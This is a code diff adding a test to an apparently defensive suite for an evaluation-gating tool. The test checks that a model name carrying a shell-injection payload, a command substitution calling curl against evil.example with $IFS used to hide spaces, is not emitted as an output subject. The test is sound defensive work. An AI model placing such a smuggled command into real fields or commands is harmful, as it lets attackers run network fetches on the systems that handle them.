@@ -80,3 +80,18 @@ test('hostile text is shown, and obeyed by nothing', async () => {
   const columns = result.summary.split('\n').filter((line) => line.startsWith('|'));
   expect(new Set(columns.map((row) => row.replaceAll(/\\\||`[^`]*`/g, '').split('|').length)).size).toBe(1);
 });
+
+test('a name that a shell would obey does not come out as the subject, even of what is allowed', async () => {
+  const model = 'acme/x";$(curl$IFS//evil.example)';
+  const allowing = POLICY.replace('screen: true, require: all', 'screen: true, require: [refusal]');
+  const other = await startWorld({ base: { [POLICY_PATH]: allowing } });
+  try {
+    const samples = Array.from({ length: 60 }, (_, i) => scored(i, 'C'));
+    other.upload({ 'a.eval': evalLog({ task: 'refusals', samples, spec: { model } }) });
+    const result = await other.gate();
+    expect(verdictOf(result).subject.model).toBe(model);
+    expect(result).toMatchObject({ code: 0, outputs: { decision: 'allow', subject: '' } });
+  } finally {
+    await other.close();
+  }
+});
